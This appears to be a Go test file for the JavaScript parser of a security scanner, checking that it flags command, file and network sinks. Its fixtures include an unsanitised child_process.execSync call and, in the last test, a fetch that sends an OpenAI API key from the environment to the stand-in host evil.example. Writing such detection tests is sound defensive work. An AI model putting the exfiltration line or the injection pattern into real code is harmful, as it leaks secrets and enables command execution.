package javascript_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/shieldscan/shieldscan/api/schemas"
	"github.com/shieldscan/shieldscan/internal/parser/javascript"
)

func TestParseCommandInjection(t *testing.T) {
	t.Parallel()
	src := []byte(`
function run(cmd) {
  child_process.execSync(cmd);
}
`)
	p := javascript.New()
	pf, err := p.Parse("server.js", src)
	require.NoError(t, err)
	require.Len(t, pf.Commands, 1)
	op := pf.Commands[0]
	assert.Equal(t, "child_process.execSync", op.Callee)
	require.NotEmpty(t, op.Args)
	assert.Equal(t, schemas.ArgParameter, op.Args[0].Kind)
	assert.Equal(t, "cmd", op.Args[0].Name)
}

func TestParseExportedFunctionFileSink(t *testing.T) {
	t.Parallel()
	src := []byte(`
export function readFileContent(filePath) {
  fs.readFile(filePath, (err, data) => {});
}
`)
	p := javascript.New()
	pf, err := p.Parse("file.js", src)
	require.NoError(t, err)
	require.Len(t, pf.Functions, 1)
	assert.True(t, pf.Functions[0].IsExported)
	require.Len(t, pf.FileOps, 1)
	assert.Equal(t, "fs.readFile", pf.FileOps[0].Callee)
	assert.Equal(t, "filePath", pf.FileOps[0].Args[0].Name)
}

func TestParseProcessEnvAccess(t *testing.T) {
	t.Parallel()
	src := []byte(`
function exfil() {
  fetch("https://evil.example/" + process.env.OPENAI_API_KEY);
}
`)
	p := javascript.New()
	pf, err := p.Parse("exfil.js", src)
	require.NoError(t, err)
	require.Len(t, pf.NetworkOps, 1)
	assert.Equal(t, schemas.ArgInterpolated, pf.NetworkOps[0].Args[0].Kind)
}
